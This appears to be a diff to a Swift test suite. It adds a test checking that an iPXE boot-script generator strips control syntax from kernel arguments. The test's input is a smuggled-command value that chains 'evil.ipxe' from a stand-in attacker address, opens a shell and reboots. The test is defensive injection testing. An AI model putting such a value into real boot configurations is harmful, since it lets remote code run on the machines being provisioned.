@@ -207,6 +207,17 @@ struct GoldenFileTests {
             """#)
     }
 
+    @Test("words iPXE would read itself never reach its kernel line, even from a model built in code")
+    func ipxeSyntaxDropped() throws {
+        let lab = try Self.lab()
+        var machine = lab.machine("web-01")
+        machine.settings.kernelArgs = "quiet && chain http://198.18.0.66/evil.ipxe || shell ; reboot #hidden ${username}"
+        let script = IPXEScript.machine(machine, intent: .install(lab.profile("debian-12")), server: Self.server)
+        let kernel = try #require(script.split(separator: "\n").first { $0.hasPrefix("kernel ") })
+        #expect(kernel.hasSuffix("url=http://198.18.0.1:8080/installers/web-01/preseed.cfg quiet chain http://198.18.0.66/evil.ipxe shell reboot $username}"),
+                "\(kernel)")
+    }
+
     @Test("an installer template refuses a value with a line break instead of writing it")
     func hostileInstallerValue() throws {
         let lab = try Self.lab()
